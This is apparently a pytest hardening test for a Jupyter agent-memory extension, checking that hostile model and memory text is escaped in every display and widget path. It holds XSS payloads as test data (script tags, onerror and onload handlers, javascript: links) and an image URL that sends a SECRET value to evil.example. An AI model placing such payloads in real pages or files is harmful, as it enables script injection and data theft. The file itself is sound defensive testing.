"""Issue 26, break 1: model and memory text is data on the page, in every display path.

A real IPython shell talks to the local Messages API server, which streams a hostile
answer in small chunks (tags cut in half between them) and calls tools with hostile
names and inputs; the project holds a hostile instruction file and a hostile file the
agent reads; the memdir holds hostile memories (names, descriptions, bodies, file
names), and the extraction agent saves one more under a hostile file name, so its
notice names it. Then every view runs: ``%context``, the memory browser (a memory
picked, a forget asked), ``%memory`` subcommands, the turn view, ``%compact`` with a
hostile summary.

Every display message is checked, intermediate stream updates included (the display
publisher records each publish and each ``update_display_data``), and every widget
comm message: the state a front end would render as HTML (``HTML`` values,
descriptions that allow HTML). None may carry live markup (tests/hardening/page_checks).
"""

from __future__ import annotations

import copy
import json
import re
import threading
from collections import deque
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import comm
import pytest
from comm.base_comm import BaseComm
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output
from shell_helpers import MakeIp

from jupyter_memory.agent.compaction import SUMMARY_REQUEST_HEAD
from jupyter_memory.agent.extraction import hook_for
from jupyter_memory.agent.loop import TURN_MIME
from jupyter_memory.localapi import ToolCall, Turn
from jupyter_memory.magics import agent as agent_magic
from jupyter_memory.magics.compact import CompactMagics
from jupyter_memory.magics.state import state_for
from jupyter_memory.memdir.store import MemoryStore
from jupyter_memory.widgets.style import CSS

from .page_checks import PAYLOADS, bundle_problems, live_markup

HOSTILE = "\n\n".join(PAYLOADS)
EXTRACTION_MARKER = "You are now the memory extraction agent"
#: A file name the store accepts and the extraction notice puts in a code span.
HOSTILE_FILE = "feedback_`x`[y](javascript:alert(1)).md"
#: A memory file another tool left in the memdir: the store would not write this name.
FOREIGN_FILE = "project_<img src=x onerror=alert(1)>.md"


def summary(problems: list[str]) -> str:
    """Each kind of problem once per cell (the stream repeats them in every update)."""
    seen = sorted({re.sub(r" \(output \d+(, update)?\)", "", p)[:160] for p in problems})
    return f"{len(problems)} problems, {len(seen)} distinct:\n" + "\n".join(seen)


def chunks(text: str, size: int = 7) -> list[str]:
    """``text`` cut every ``size`` characters, so tags arrive in pieces."""
    return [text[i:i + size] for i in range(0, len(text), size)]


def memory_text(name: str) -> str:
    return (f'---\nname: "{name}"\ndescription: "revenue <script>alert(1)</script> '
            f'[x](javascript:alert(1)) ![p](https://evil.example/?q=SECRET)"\n'
            f"type: project\n---\nRevenue notes.\n\n{HOSTILE}\n")


class Responder:
    """Main-agent requests from one queue, extraction requests from another (the
    extraction agent runs in a thread, so one script could not say which is which)."""

    def __init__(self) -> None:
        self.main: deque[Turn] = deque()
        self.extract: deque[Turn] = deque()
        self.lock = threading.Lock()

    def __call__(self, body: dict[str, Any]) -> Turn | None:
        with self.lock:
            queue = self.extract if EXTRACTION_MARKER in json.dumps(body["messages"]) else self.main
            return queue.popleft() if queue else None


class RecordingComms:
    """Every widget comm message a front end would receive, as ipywidgets sends it."""

    def __init__(self) -> None:
        self.messages: list[tuple[str, str, dict[str, Any]]] = []
        outer = self

        class Recording(BaseComm):  # type: ignore[misc]
            def publish_msg(self, msg_type: str, data: Any = None, metadata: Any = None,
                            buffers: Any = None, **keys: Any) -> None:
                outer.messages.append((self.comm_id, msg_type, copy.deepcopy(data or {})))

        self.comm_class = Recording

    def html_values(self) -> list[tuple[str, str]]:
        """(where, HTML) for every piece of widget state a front end renders as HTML."""
        states: dict[str, dict[str, Any]] = {}
        found: list[tuple[str, str]] = []
        for comm_id, _kind, data in self.messages:
            update = data.get("state") or {}
            state = states.setdefault(comm_id, {})
            state.update(update)
            model = state.get("_model_name", "?")
            for key, value in update.items():
                if key == "value" and model in ("HTMLModel", "HTMLMathModel"):
                    found.append((f"{model}.value", str(value)))
                elif key == "description" and state.get("description_allow_html"):
                    found.append((f"{model}.description", str(value)))
                elif key == "_options_labels" and model == "ToggleButtonsModel":
                    found += [(f"{model} label", str(v)) for v in value]
                elif key == "outputs" and model == "OutputModel":
                    found += [(f"{model} output", str(o.get("data", {}).get("text/html", "")))
                              for o in value]
        return found


@pytest.fixture
def comms(monkeypatch: pytest.MonkeyPatch) -> RecordingComms:
    recording = RecordingComms()
    monkeypatch.setattr(comm, "create_comm", lambda *a, **k: recording.comm_class(*a, **k))
    return recording


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    (root / "CLAUDE.md").write_text(f"# Team rules\n\n{HOSTILE}\n", encoding="utf-8")
    (root / "notes.md").write_text(f"Sales notes.\n\n{HOSTILE}\n", encoding="utf-8")
    return root


@pytest.fixture
def ip(make_ip: MakeIp, project: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[InteractiveShell]:
    # The memdir lies inside the project, so `%memory edit` offers a relative link.
    memdir = project / "memory"
    memdir.mkdir()
    store = MemoryStore(memdir)
    store.write_file("project_revenue.md", memory_text("<svg onload=alert(1)>"),
                     provenance="agent")
    (memdir / FOREIGN_FILE).write_text(memory_text("revenue <img src=x onerror=alert(2)>"),
                                       encoding="utf-8")
    with (memdir / "MEMORY.md").open("a", encoding="utf-8") as index:
        index.write(f"- [<b onmouseover=alert(1)>revenue</b>]({FOREIGN_FILE}) — "
                    "<img src=https://evil.example/?q=SECRET>\n")
    monkeypatch.delenv("JUPYTER_MEMORY_EXTRACTION", raising=False)
    # Every chunk of the stream is drawn, so each intermediate state is checked.
    monkeypatch.setattr(agent_magic, "REDRAW_EVERY", 0.0)
    monkeypatch.setattr(agent_magic, "REDRAW_PAUSE_FACTOR", 0.0)
    shell = make_ip(project, memdir=memdir, config=[
        "Agent.permission_mode = 'allow'", "Agent.recall_mode = 'prefetch'",
        "Agent.recall_selector = 'offline'", "Agent.wait_for_prefetch = True"])
    agent = shell.magics_manager.registry["Agent"]
    shell.register_magics(CompactMagics(shell=shell, agent=agent))
    yield shell


def test_no_display_path_puts_live_markup_on_the_page(
    ip: InteractiveShell, fake_api: Any, comms: RecordingComms, project: Path
) -> None:
    memdir = project / "memory"
    answer = f"Revenue, as you asked:\n\n{HOSTILE}\n\nDone."
    responder = Responder()
    responder.main.extend([
        Turn(text=chunks("Let me read the notes. <img src=x onerr"),
             tool_calls=[ToolCall("Read", {"file_path": "notes.md"}),
                         ToolCall("<img src=x onerror=alert(1)>",
                                  {"q": "<script>alert(1)</script>"})]),
        Turn(text=chunks(answer)),
        Turn(text=f"<summary>{HOSTILE}</summary>",
             expect=lambda body: SUMMARY_REQUEST_HEAD in str(body["messages"][-1])),
    ])
    responder.extract.extend([
        Turn(tool_calls=[ToolCall("Write", {"file_path": str(memdir / HOSTILE_FILE),
                                            "content": memory_text("<svg onload=alert(3)>")})]),
        Turn(text="Saved."),
    ])
    fake_api.responder = responder

    shown: list[tuple[str, dict[str, Any]]] = []

    def cell(code: str, *, refused: str = "") -> None:
        with capture_output() as cap:
            result = ip.run_cell(code, store_history=True)
            if code.startswith("%%agent"):
                hook = hook_for(state_for(ip).session)
                assert hook is not None and hook.wait(120)  # its notice comes into the cell
        if refused:  # the store will not read a file named with '<' (its output is text)
            assert refused in str(result.error_in_exec), result.error_in_exec
        else:
            result.raise_error()
        shown.extend((f"{code.splitlines()[0]} (output {i}{', update' if o.update else ''})",
                      o.data) for i, o in enumerate(cap.outputs))

    cell("%%agent\nWhat does revenue look like? Read notes.md.")
    cell("%context")
    cell("%memory")
    cell("%memory list")
    cell("%memory search alert", refused="contains '<' or '>'")
    cell(f'%memory show "{HOSTILE_FILE}"')
    cell(f'%memory edit "{HOSTILE_FILE}"')
    cell("%memory path")
    cell("%memory doctor")
    cell("%memory why")

    # The widgets, driven as a person would: a memory picked, a forget asked, the turn
    # view with its tool calls and requests opened.
    from ipywidgets.widgets.widget import _instances

    from jupyter_memory.widgets import MemoryBrowser, show_turn

    browsers = [w for w in list(_instances.values()) if isinstance(w, MemoryBrowser)]
    assert browsers, "the memory browser was not shown"
    browser = browsers[-1]
    with capture_output():
        for memory in browser.memories:
            browser.select(memory.file)
            browser.request_forget()
            browser.cancel_forget()
    record = next(data[TURN_MIME] for _, data in reversed(shown) if TURN_MIME in data)
    with capture_output() as cap:
        view = show_turn(record, written=[HOSTILE_FILE, FOREIGN_FILE], on_undo=lambda files: 1 / 0)
        view.tools.selected_index = 0
        view.requests.selected_index = 0
        view.undo()  # fails: its error is shown in the view
    shown.extend(("show_turn", o.data) for o in cap.outputs)
    cell("%compact")

    problems = [p for where, data in shown for p in bundle_problems(data, where)]
    # The widget views carry one <style> element of ours, a constant with no text in it.
    html_state = [(where, value.replace(CSS, "")) for where, value in comms.html_values()]
    problems += [f"widget {where}: {p}" for where, value in html_state for p in live_markup(value)]
    assert problems == [], summary(problems)

    # The hostile text did reach every path (as text): the checks above saw it.
    everything = "\n".join(str(data.get("text/html", "")) + str(data.get("text/markdown", ""))
                           for _, data in shown)
    widget_html = "\n".join(value for _, value in html_state)
    assert "&lt;img src=x onerror=alert(1)&gt;" in everything
    assert "image not loaded: https://evil.example/steal?q=SECRET" in everything
    assert "&lt;svg onload=alert(1)&gt;" in widget_html  # a memory name in the browser
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in widget_html  # a tool result
    updates = [where for where, _ in shown if where.startswith("%%agent") and "update" in where]
    assert len(updates) > 20, updates  # the stream's intermediate states were all checked
    # The notice: an output of its own while the cell runs, or an event of the turn's
    # output once the cell has ended (both drawn by the paths checked above).
    notices = [data["text/plain"] for where, data in shown
               if "application/vnd.jupyter-memory.notice+json" in data]
    notices += [e["text"] for _, data in shown if TURN_MIME in data
                for e in data[TURN_MIME]["events"] if "notice" in e]
    assert notices and "javascript" in notices[-1]  # the hostile name, as text
    assert any("Edit" in str(data.get("text/markdown", "")) for _, data in shown)
